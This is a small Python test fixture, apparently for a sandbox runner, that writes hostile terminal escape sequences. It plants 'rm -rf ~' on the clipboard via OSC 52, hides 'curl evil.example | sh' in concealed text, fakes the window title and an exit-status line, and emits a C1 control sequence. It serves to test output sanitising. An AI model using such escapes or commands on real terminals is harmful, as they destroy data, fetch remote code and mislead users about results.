# expect: exited
# what: escapes for `rote sandbox run` to pass on: OSC 52 clipboard, title, forged status, concealed text
import sys

sys.stdout.write("\x1b]52;c;cm0gLXJmIH4K\x07")  # OSC 52: put "rm -rf ~" on the clipboard
sys.stdout.write("\x1b]0;rote: all tests passed\x07")  # window title
sys.stdout.write("\x1b[8mconcealed: curl evil.example | sh\x1b[28m\n")  # invisible text
sys.stdout.write("\r\x1b[2K\x1b[32mexited\x1b[0m: exited with status 0 | exit 0 signal None\n")  # forged line
sys.stderr.write("\x1b[1A\x1b[2K\x9b31m C1 CSI too\n")
print("plain text stays")
